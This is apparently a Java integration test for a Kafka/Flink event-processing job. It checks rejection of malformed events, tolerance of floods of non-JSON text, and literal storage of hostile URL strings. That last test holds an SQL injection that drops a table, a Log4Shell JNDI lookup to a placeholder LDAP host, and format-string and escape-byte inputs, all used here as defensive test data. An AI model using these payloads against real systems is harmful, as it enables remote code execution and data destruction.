package dev.trafficctl.job;

import static org.assertj.core.api.Assertions.assertThat;

import dev.trafficctl.local.Security;
import dev.trafficctl.model.BadEvents;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;

class BadEventsIT {
  private final RunningStack stack = RunningStack.with(Security.PLAINTEXT);

  @Test
  void rejectsEachOnceWithItsReasonAndItsPlaceAndGoesOn() throws Exception {
    List<BadEvents.Sample> samples = BadEvents.all(Instant.now().truncatedTo(ChronoUnit.MILLIS));
    try (TestTopic topic = new TestTopic(stack, 2);
        TestJob job = new TestJob(stack, topic)) {
      Map<Long, String> expected = new TreeMap<>();
      Map<Long, Integer> lengths = new TreeMap<>();
      for (BadEvents.Sample sample : samples) {
        byte[] value = sample.value();
        long offset = topic.send(1, Arrays.asList(new byte[][] {value}));
        expected.put(offset, sample.reason().code());
        lengths.put(offset, value == null ? 0 : value.length);
      }
      topic.send(1, Events.numbered(1, 1));

      job.start();
      job.awaitRows(1, samples.size());

      Map<Long, String> reasons = new TreeMap<>();
      Map<Long, Integer> payloads = new TreeMap<>();
      for (List<Object> row :
          job.query(
              "SELECT kafka_offset, reason, payload_bytes, kafka_partition,"
                  + " coalesce(octet_length(payload), 0) = least(payload_bytes, 1048576)"
                  + " FROM rejected_events JOIN sources USING (source) WHERE topic = '"
                  + topic.name()
                  + "'")) {
        reasons.put((Long) row.get(0), (String) row.get(1));
        payloads.put((Long) row.get(0), (Integer) row.get(2));
        assertThat(row.subList(3, 5)).isEqualTo(List.of(1, true));
      }
      assertThat(reasons).isEqualTo(expected);
      assertThat(payloads).isEqualTo(lengths);
      stack.flink().awaitNextCheckpoint(job.id());
      assertThat(job.restarts()).isZero();
    }
  }

  @Test
  void storesHostileButHarmlessTextAsItCame() throws Exception {
    List<String> urls =
        List.of(
            "/?q='; DROP TABLE processed_events; --",
            "/${jndi:ldap://198.51.100.9/a}",
            "/%00%1b[31m",
            "/%s%n%x",
            "/\\\\N\\\\.",
            "/\u00e4\u20ac\ud83d\ude80");
    try (TestTopic topic = new TestTopic(stack, 1);
        TestJob job = new TestJob(stack, topic)) {
      List<byte[]> events = new ArrayList<>();
      for (String url : urls) {
        String event = new String(Events.event(url, Instant.now()), StandardCharsets.UTF_8);
        String more = "{\"user_id\":7,\"a.b\":{}," + event.substring(1);
        events.add(more.getBytes(StandardCharsets.UTF_8));
      }
      topic.send(0, events);
      job.start();
      job.awaitRows(urls.size(), 0);

      List<String> stored = new ArrayList<>();
      job.query(
              "SELECT url FROM processed_events JOIN sources USING (source) WHERE topic = '"
                  + topic.name()
                  + "' ORDER BY kafka_offset")
          .forEach(row -> stored.add((String) row.get(0)));
      assertThat(stored).isEqualTo(urls.stream().map(url -> url.replace("\\\\", "\\")).toList());
      long each = urls.size();
      job.awaitCounters(
          "Source__read",
          Map.of(
              "deserializer.unknown_fields", 2 * each,
              "deserializer.unknown_field.user_id", each,
              "deserializer.unknown_field.a_b", each));
    }
  }

  @Test
  void rejectsAWholeFloodOfTextThatIsNotJson() throws Exception {
    int events = 5_000;
    try (TestTopic topic = new TestTopic(stack, 1);
        TestJob job = new TestJob(stack, topic)) {
      List<byte[]> values = new ArrayList<>();
      for (int i = 0; i < events; i++) {
        values.add(("not JSON, number " + i).getBytes(StandardCharsets.UTF_8));
      }
      topic.send(0, values);
      job.start();
      job.awaitRows(0, events);
      assertThat(job.restarts()).isZero();
    }
  }
}
